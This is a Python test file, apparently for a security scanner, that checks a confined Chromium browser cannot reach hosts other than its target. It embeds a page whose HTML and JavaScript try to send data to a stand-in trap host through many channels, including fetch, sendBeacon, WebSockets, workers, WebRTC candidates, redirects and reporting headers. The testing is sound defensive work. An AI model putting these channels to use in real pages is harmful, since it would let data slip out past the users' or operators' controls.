"""A real Chromium on a page that tries whatever a page can to reach another host: it reaches none.

Whether the trap would have caught the tries at all is seen with the same page in a Chromium that
is not confined.
"""

import asyncio
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
import trustme
from playwright.sync_api import Error, sync_playwright
from tests.live.chromium import AGENT, CHROMIUM, NOBODY, SHOP, UNBOUNDED

from odoo_owasp.model.call import Untrusted
from odoo_owasp.model.rules import Budget, OutsideTheRules
from odoo_owasp.oracles.browser import ChromiumOracle, Loader
from odoo_owasp.transports.budget import SharedBudget
from odoo_owasp.transports.guard import WireGuard

pytestmark = [
    pytest.mark.live,
]

# Made in conftest.py.
Notes = Any
Server = Any
Trap = Any
Serve = Any
Said = Any
Opened = Callable[..., ChromiumOracle]

# Every try has a path of its own; TRAP is a host and port, HERE the page's own origin.
_MARKUP = """
<link rel="icon" href="http://TRAP/icon"><link rel="stylesheet" href="http://TRAP/style">
<link rel="prefetch" href="http://TRAP/prefetch"><link rel="preconnect" href="http://TRAP">
<link rel="dns-prefetch" href="//trap.invalid"><link rel="preload" as="image" href="http://TRAP/pre">
<link rel="modulepreload" href="http://TRAP/module"><link rel="manifest" href="http://TRAP/manifest">
<link rel="prerender" href="http://TRAP/prerender">
<style>@import "http://TRAP/import"; body { background: url(http://TRAP/background) }
@font-face { font-family: F; src: url(http://TRAP/font) } p { font-family: F }</style>
<script src="http://TRAP/script"></script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://TRAP/rules"]}],
 "prerender": [{"source": "list", "urls": ["/redirect/prerender"]}]}</script>
<img src="http://TRAP/img"><img src="/redirect/img">
<img src="http://TRAP/set" srcset="//TRAP/srcset 2x">
<iframe src="http://TRAP/iframe"></iframe><iframe src="/redirect/iframe"></iframe>
<iframe src="/refresh"></iframe><iframe srcdoc="<img src='http://TRAP/srcdoc'>"></iframe>
<iframe name="into"></iframe>
<object data="http://TRAP/object"></object><embed src="http://TRAP/embed">
<video src="http://TRAP/video" poster="http://TRAP/poster" autoplay></video>
<audio src="http://TRAP/audio" autoplay></audio><svg><image href="http://TRAP/svg"/></svg>
<a id="ping" href="#" ping="http://TRAP/ping">ping</a>
<form id="form" action="http://TRAP/form" method="post" target="into"><input name="a"></form>
<form id="there" action="/redirect/form" method="post" target="into"></form><p>text</p>
"""
_SCRIPT = """
const tries = [
  () => fetch("http://TRAP/fetch", {mode: "no-cors"}),
  () => fetch("/redirect/fetch", {mode: "no-cors"}),
  () => fetch("http://TRAP/keepalive", {mode: "no-cors", keepalive: true}),
  () => navigator.sendBeacon("http://TRAP/beacon", "secret"),
  () => navigator.sendBeacon("/redirect/beacon", "secret"),
  () => { const x = new XMLHttpRequest(); x.open("POST", "http://TRAP/xhr"); x.send("a"); },
  () => { new EventSource("http://TRAP/events"); new EventSource("/redirect/events"); },
  () => { new WebSocket("ws://TRAP/socket"); },
  () => { new WebSocket("wss://TRAP/socket"); },
  () => window.open("http://TRAP/open"),
  () => window.open("/redirect/open"),
  () => document.getElementById("form").submit(),
  () => document.getElementById("there").submit(),
  () => document.getElementById("ping").click(),
  () => { new Worker(URL.createObjectURL(new Blob(
      ["importScripts('http://TRAP/imported')"]))); },
  () => { new Worker(URL.createObjectURL(new Blob(
      ["fetch('http://TRAP/worker', {mode: 'no-cors'}); fetch('HERE/seen/worker')"]))); },
  () => { new SharedWorker("/shared.js"); },
  () => navigator.serviceWorker.register("/service.js"),
  () => navigator.serviceWorker.register("http://TRAP/service.js"),
  () => import("http://TRAP/dynamic.js"),
  () => { new WebTransport("https://TRAP/transport"); },
  () => { new WebTransport("https://TRAP/hashed", {serverCertificateHashes: [
      {algorithm: "sha-256", value: new Uint8Array(32)}]}); },
  () => fetch("HERE/seen/fetch"),
  () => { new WebSocket("HERE/seen/socket".replace("https", "wss")); },
  () => { new Image().src = "HERE/seen/img"; },
];
"""
_CALLS = """
const tries = [
  async () => {
    const peer = new RTCPeerConnection({iceServers: [
      {urls: "stun:TRAP"},
      {urls: "turn:TRAP?transport=udp", username: "a", credential: "b"},
      {urls: "turn:TRAP?transport=tcp", username: "a", credential: "b"},
      {urls: "turns:TRAP?transport=tcp", username: "a", credential: "b"},
      {urls: "stun:trap.invalid:3478"},
    ]});
    peer.createDataChannel("a");
    await peer.setLocalDescription(await peer.createOffer());
  },
  async () => {  // a peer that says it is at the trap
    const peer = new RTCPeerConnection(), other = new RTCPeerConnection();
    peer.createDataChannel("a");
    const offer = await peer.createOffer();
    await peer.setLocalDescription(offer);
    await other.setRemoteDescription(offer);
    const answer = await other.createAnswer();
    await peer.setRemoteDescription(answer);
    const at = "2113937151 " + "TRAP".replace(":", " ") + " typ host";
    for (const candidate of [`candidate:1 1 udp ${at}`, `candidate:2 1 tcp ${at} tcptype passive`])
      quiet(peer.addIceCandidate({candidate, sdpMid: "0"}));
  },
];
"""
_RUN = """
const quiet = promise => Promise.resolve(promise).catch(() => {});
(async () => {
  for (const one of tries) { try { quiet(one()); } catch (error) {} }
  await new Promise(done => setTimeout(done, 1500));
  document.body.append("all was tried");
})();
"""


def answering(traps: list[str], said: Said) -> Callable[[Any], Any]:
    """A target whose every answer points to the traps."""
    reporting = {
        "Report-To": json.dumps(
            {"group": "x", "max_age": 9999, "endpoints": [{"url": f"http://{traps[0]}/report"}]}
        ),
        "Reporting-Endpoints": f'x="https://{traps[0]}/reports"',
        "NEL": '{"report_to": "x", "max_age": 9999, "success_fraction": 1.0}',
        "Content-Security-Policy-Report-Only":
            f"default-src 'none'; report-uri http://{traps[0]}/csp; report-to x",
        "Link": f"<http://{traps[0]}/header>; rel=preload; as=image",
        "Alt-Svc": f'h2="{traps[0]}"; ma=9999',
        "Accept-CH": "Sec-CH-UA-Arch",
    }  # fmt: skip

    def answer(asked: Any) -> Any:
        path, here = asked.path.partition("?")[0], f"https://{asked.all('Host')[0]}"
        html = {"Content-Type": "text/html; charset=utf-8"} | reporting
        script = {"Content-Type": "text/javascript"}
        if path in ("/tries", "/calls"):
            markup, script_ = (_MARKUP, _SCRIPT) if path == "/tries" else ("", _CALLS)
            page = "".join(
                f"{markup}<script>{{{script_}{_RUN}}}</script>".replace("TRAP", netloc)
                for netloc in traps
            )
            page = "<!doctype html><title>x</title><body>" + page.replace("HERE", here)
            return said(page.encode(), headers=html)
        if path.startswith("/redirect/"):
            return said(status=307, headers={"Location": f"http://{traps[0]}{path}"})
        if path.startswith("/leave/"):
            return said(status=302, headers={"Location": f"http://{unquote(path[7:])}/left"})
        if path == "/refresh":
            meta = f'<meta http-equiv="refresh" content="0; url=http://{traps[0]}/refresh">'
            return said(meta.encode(), headers=html)
        if path == "/shared.js":
            return said(f"fetch('http://{traps[0]}/shared')".encode(), headers=script)
        if path == "/service.js":
            return said(f"importScripts('http://{traps[0]}/sw')".encode(), headers=script)
        return said(b"<!doctype html><title>x</title><p>here</p>", headers=html)

    return answer


def comes(oracle: ChromiumOracle, path: str, text: str) -> bool:
    """Whether ``text`` comes on screen at ``path``, and a script of ours runs there."""
    with oracle.opened(NOBODY, path) as page:
        page.get_by_text(text).first.wait_for()
        return oracle.runs(page, "tcontrol")


class Lax:
    """A guard that lets everything pass: Chromium's own confinement is all there is."""

    def __init__(self, guard: WireGuard) -> None:
        self.agent = guard.agent
        self.resolver_rules = guard.resolver_rules
        self.key_pin = guard.key_pin

    def admits(self, method: str, url: str) -> bool:
        return True

    def saw(self, status: int, received: int) -> None: ...


def strict(guard: WireGuard) -> Loader:
    return guard


LAYERS = [pytest.param(strict, id="guarded"), pytest.param(Lax, id="confined-by-chromium-alone")]
SEEN = {"/seen/fetch", "/seen/worker", "/seen/img", "/seen/socket"}


@pytest.fixture
def shop(serve: Serve, said: Said, watch: Trap, authority: trustme.CA) -> Server:
    certificate = authority.issue_cert(SHOP, "127.0.0.1")
    return serve(answering(watch.netlocs, said), certificate=certificate)


@pytest.mark.parametrize("wrap", LAYERS)
def test_nothing_on_a_page_reaches_another_host(
    opened: Opened, shop: Server, trap: Trap, wrap: Callable[[WireGuard], Loader]
) -> None:
    assert comes(opened(shop, wrap=wrap), "/tries", "all was tried")
    assert set(shop.paths()) >= SEEN | {"/refresh", "/redirect/fetch", "/redirect/iframe"}


def test_no_call_reaches_another_host(opened: Opened, shop: Server, watch: Trap) -> None:
    assert comes(opened(shop), "/calls", "all was tried")
    assert watch.seen == []


def test_the_trap_would_have_caught_them(shop: Server, watch: Trap, opened: Opened) -> None:
    """The control: a Chromium that is not confined reaches it in all these ways."""
    opened(shop).close()  # nothing of the confined one is left over in the other
    arguments = [f"--host-resolver-rules=MAP {SHOP} 127.0.0.1", "--no-sandbox"]
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=arguments)
        for path in ("/tries", "/calls"):
            page = browser.new_context(ignore_https_errors=True).new_page()
            page.goto(f"https://{SHOP}:{shop.server_port}{path}", wait_until="commit")
            page.wait_for_timeout(4000)
        browser.close()
    seen = " ".join(watch.seen)
    for path in ("img", "script", "iframe", "fetch", "beacon", "xhr", "events", "socket", "style",
                 "prefetch", "background", "worker", "redirect/fetch"):  # fmt: skip
        assert f" /{path} " in seen, path
    assert "udp 127.0.0.2" in seen
    assert "udp 127.0.0.1" in seen


@pytest.mark.parametrize("wrap", LAYERS)
def test_a_page_that_leads_away_is_not_followed(
    opened: Opened, shop: Server, trap: Trap, notes: Notes, wrap: Callable[[WireGuard], Loader]
) -> None:
    oracle = opened(shop, wrap=wrap)
    for netloc in trap.netlocs:
        with pytest.raises(Error, match=r"ERR_NAME_NOT_RESOLVED|ERR_BLOCKED|ERR_FAILED"):
            comes(oracle, f"/leave/{netloc}", "left")
    assert shop.paths()[-1] == f"/leave/{trap.netlocs[1]}"


@pytest.mark.parametrize("name", ["https_proxy", "all_proxy"])
def test_no_proxy_of_the_environment_is_asked(
    opened: Opened, shop: Server, trap: Trap, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setenv(name, f"http://{trap.netlocs[0]}")
    assert comes(opened(shop), "/", "here")


@pytest.mark.parametrize(("host", "address"), [("127.0.0.1", "127.0.0.1"), ("::1", "::1"),
                                               (SHOP, "::1")])  # fmt: skip
def test_targets_by_address(
    opened: Opened, serve: Serve, said: Said, trap: Trap, authority: trustme.CA, host: str,
    address: str,
) -> None:  # fmt: skip
    certificate = authority.issue_cert(host)
    server = serve(answering(trap.netlocs, said), host=address, certificate=certificate)
    assert comes(opened(server, host=host), "/", "here")


def test_a_certificate_of_another_key_is_refused(
    opened: Opened, shop: Server, authority: trustme.CA
) -> None:
    oracle = opened(shop)
    authority.issue_cert(SHOP, "127.0.0.1").configure_cert(shop.tls)  # as a man in the middle has
    with pytest.raises(Error, match="ERR_CERT_AUTHORITY_INVALID"):
        comes(oracle, "/", "here")
    assert shop.asked == []


@pytest.fixture
def drivers(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Stops the drivers that an oracle started and forgot."""
    started: list[Any] = []

    class Starting:
        def start(self) -> Any:
            started.append(sync_playwright().start())
            return started[-1]

    monkeypatch.setattr("odoo_owasp.oracles.browser.sync_playwright", Starting)
    yield
    for one in started:
        one.stop()


def test_a_target_without_its_certificate_gets_no_browser(
    opened: Opened, serve: Serve, drivers: None
) -> None:
    server = serve(certificate=trustme.CA().issue_cert(SHOP))
    with pytest.raises(Untrusted):
        opened(server)
    assert server.asked == []


def test_an_oracle_that_could_not_start_leaves_no_driver(
    opened: Opened, serve: Serve, drivers: None
) -> None:
    with pytest.raises(Untrusted):
        opened(serve(certificate=trustme.CA().issue_cert(SHOP)))
    with pytest.raises(RuntimeError):  # Playwright's would be in the way of the next oracle
        asyncio.get_running_loop()


def test_the_browser_says_who_it_is_and_stays_in_the_budget(
    opened: Opened, shop: Server, notes: Notes
) -> None:
    oracle = opened(shop, budget=Budget(requests=3))  # the first is a handshake, for the key's pin
    comes(oracle, "/", "here")
    comes(oracle, "/", "here")
    with pytest.raises(OutsideTheRules, match="budget of 3 requests"):
        comes(oracle, "/", "here")
    assert len([path for path in shop.paths() if path == "/"]) == 2
    assert all(AGENT in one.all("User-Agent")[0] for one in shop.asked)
    assert "session_id=abc" not in str(notes.entries)


def test_every_request_of_a_page_is_counted_and_marked(
    opened: Opened, shop: Server, notes: Notes, tmp_path: Path
) -> None:
    comes(opened(shop), "/tries", "all was tried")
    unmarked = [one.path for one in shop.asked if AGENT not in one.all("User-Agent")[0]]
    noted = [entry["path"] for kind, entry in notes.entries if kind == "request"]
    unnoted = set(shop.paths()) - set(noted) - {"/redirect/prerender"}  # see below
    counted = SharedBudget(UNBOUNDED, tmp_path / "budget").spent().requests
    assert (unmarked, unnoted) == ([], set())
    assert counted >= len(shop.asked) - 2


def test_what_a_page_prerenders_stays_on_the_target_and_carries_our_mark(
    opened: Opened, shop: Server, watch: Trap
) -> None:
    """Nobody can hold such a request, but the front's log tells of it: sent is not seen then."""
    comes(opened(shop), "/tries", "all was tried")
    rendered = [one for one in shop.asked if one.path == "/redirect/prerender"]
    assert rendered  # the control: this page does it
    assert all(AGENT in one.all("User-Agent")[0] for one in rendered)
    assert watch.seen == []
